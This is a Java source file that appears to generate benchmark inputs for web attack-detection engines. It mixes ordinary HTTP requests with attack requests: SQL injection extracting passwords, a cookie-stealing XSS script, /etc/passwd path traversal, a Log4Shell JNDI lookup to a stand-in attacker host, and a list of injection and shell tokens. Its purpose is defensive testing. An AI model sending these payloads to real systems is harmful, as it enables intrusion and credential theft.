// Copyright 2026 The AppSec for Jakarta EE authors
// SPDX-License-Identifier: Apache-2.0
package io.github.appsecjakarta.bench.vs;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;

/** The requests that both engines judge, as values by address. Every call makes new strings. */
public final class Inputs {
  private static final String[] WORDS =
      ("lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut "
              + "labore et dolore magna aliqua enim ad minim veniam quis nostrud exercitation ullamco "
              + "laboris nisi aliquip ex ea commodo consequat duis aute irure in reprehenderit "
              + "voluptate velit esse cillum eu fugiat nulla")
          .split(" ");
  private static final String[] TOKENS =
      ("union select from where insert drop or and <script </script> alert( onerror= javascript: "
              + "../ ..\\ /etc/passwd %00 %2e%2e $( `id` ; cat | && curl wget eval( system( exec( "
              + "{{ }} ${jndi: ldap:// #{ ' \" -- /* */ 1=1 sleep( benchmark( 0x41 @@version <img <svg "
              + "php:// http:// file:// __proto__ constructor Runtime getClass <!ENTITY")
          .split(" ");

  private Inputs() {}

  /**
   * The ordinary requests and the attacks.
   *
   * @return by name, in the order of the table
   */
  public static Map<String, Map<String, Object>> named() {
    Map<String, Map<String, Object>> all = new LinkedHashMap<>();
    all.put(
        "a",
        get(
            "/catalog/search?q=wireless%20noise%20cancelling%20headphones&page=2&sort=price_asc",
            search()));
    all.put("b", login());
    all.put("c", Map.of("server.request.body", json()));
    all.put("e4k", Map.of("server.request.body", prose().substring(0, 4096)));
    all.put("d1", with(get("/index.html", Map.of()), "user-agent", "Arachni/v1.6.1.3"));
    all.put(
        "d2",
        attack(
            "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            "id", "1' UNION SELECT username,password FROM users-- "));
    all.put(
        "d3",
        attack(
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "q", "<script>alert(document.cookie)</script>"));
    all.put(
        "d4", attack("/download?file=../../../../etc/passwd", "file", "../../../../etc/passwd"));
    all.put("d5", with(get("/", Map.of()), "user-agent", "${jndi:ldap://evil.example.net:1389/a}"));
    return all;
  }

  private static Map<String, Object> search() {
    Map<String, Object> query = new LinkedHashMap<>();
    query.put("q", one("wireless noise cancelling headphones"));
    query.put("page", one("2"));
    query.put("sort", one("price_asc"));
    return query;
  }

  private static Map<String, Object> attack(String uri, String name, String value) {
    return get(uri, Map.of(name, one(value)));
  }

  private static Map<String, Object> get(String uri, Map<String, Object> query) {
    Map<String, Object> request = new LinkedHashMap<>();
    request.put("server.request.method", fresh("GET"));
    request.put("server.request.uri.raw", fresh(uri));
    request.put("server.request.headers.no_cookies", headers());
    request.put("server.request.query", query);
    Map<String, Object> cookies = new LinkedHashMap<>();
    cookies.put("session", one("9f86d081884c7d659a2feaa0c55ad015"));
    cookies.put("theme", one("dark"));
    request.put("server.request.cookies", cookies);
    request.put("http.client_ip", fresh("203.0.113.42"));
    return request;
  }

  private static Map<String, Object> headers() {
    Map<String, Object> headers = new LinkedHashMap<>();
    headers.put("host", one("shop.example.com"));
    headers.put(
        "user-agent",
        one(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"));
    headers.put(
        "accept",
        one(
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"));
    headers.put("accept-language", one("en-US,en;q=0.9,de;q=0.7"));
    headers.put("accept-encoding", one("gzip, deflate, br"));
    headers.put("cache-control", one("max-age=0"));
    headers.put("referer", one("https://shop.example.com/catalog/electronics/headphones?page=1"));
    headers.put("x-forwarded-for", one("203.0.113.42, 198.51.100.7"));
    headers.put("x-request-id", one("4bf92f35-77b3-4da6-a3ce-929d0e0e4736"));
    headers.put("connection", one("keep-alive"));
    return headers;
  }

  private static Map<String, Object> login() {
    Map<String, Object> request = get("/account/login", Map.of());
    request.put("server.request.method", fresh("POST"));
    with(request, "content-type", "application/x-www-form-urlencoded");
    with(request, "content-length", "154");
    with(request, "origin", "https://shop.example.com");
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("username", one("maria.schneider@example.org"));
    body.put("password", one("correct horse battery staple 42!"));
    body.put("csrf_token", one("b7e23ec29af22b0b4e41da31e868d57226121c84"));
    body.put("remember", one("on"));
    body.put("return_to", one("/account/orders"));
    request.put("server.request.body", body);
    return request;
  }

  private static Map<String, Object> with(Map<String, Object> request, String name, String value) {
    @SuppressWarnings("unchecked")
    Map<String, Object> headers =
        (Map<String, Object>)
            Objects.requireNonNull(request.get("server.request.headers.no_cookies"));
    headers.put(name, one(value));
    return request;
  }

  private static Map<String, Object> json() {
    Random random = new Random(42);
    List<Object> items = new ArrayList<>();
    for (int i = 0; i < 40; i++) {
      Map<String, Object> item = new LinkedHashMap<>();
      item.put(
          "sku",
          String.format(
              "SKU-%06d-%c%c",
              random.nextInt(1000000), 'A' + random.nextInt(26), 'A' + random.nextInt(26)));
      for (String name : List.of("title", "description", "vendor", "note")) {
        item.put(name, sentence(random));
      }
      items.add(item);
    }
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("items", items);
    return body;
  }

  private static String sentence(Random random) {
    StringBuilder text = new StringBuilder();
    int words = 6 + random.nextInt(8);
    for (int i = 0; i < words; i++) {
      text.append(i == 0 ? "" : " ").append(WORDS[random.nextInt(WORDS.length)]);
    }
    text.setCharAt(0, Character.toUpperCase(text.charAt(0)));
    return text.append('.').toString();
  }

  /**
   * A text without meaning.
   *
   * @return a million characters
   */
  public static String prose() {
    Random random = new Random(7);
    StringBuilder text = new StringBuilder();
    while (text.length() < 1_000_000) {
      text.append(WORDS[random.nextInt(WORDS.length)]);
      text.append(
          switch (random.nextInt(20)) {
            case 0 -> ". ";
            case 1 -> ", ";
            case 2 -> ".\n";
            default -> " ";
          });
    }
    return text.substring(0, 1_000_000);
  }

  /** Two thousand texts of random printable characters, then as many of attack tokens. */
  static List<List<Map<String, Object>>> hostile() {
    Random random = new Random(3);
    List<Map<String, Object>> printable = new ArrayList<>();
    for (int i = 0; i < 2000; i++) {
      StringBuilder text = new StringBuilder();
      for (int j = 0; j < 1000; j++) {
        text.append((char) (32 + random.nextInt(95)));
      }
      printable.add(Map.of("server.request.body", text.toString()));
    }
    List<Map<String, Object>> soup = new ArrayList<>();
    for (int i = 0; i < 2000; i++) {
      StringBuilder text = new StringBuilder();
      while (text.length() < 1000) {
        text.append(TOKENS[random.nextInt(TOKENS.length)]);
        if (random.nextInt(3) == 0) {
          text.append(' ');
        }
      }
      soup.add(Map.of("server.request.body", text.toString()));
    }
    return List.of(printable, soup);
  }

  private static List<Object> one(String value) {
    List<Object> list = new ArrayList<>(1);
    list.add(fresh(value));
    return list;
  }

  private static String fresh(String value) {
    return new String(value.toCharArray());
  }
}
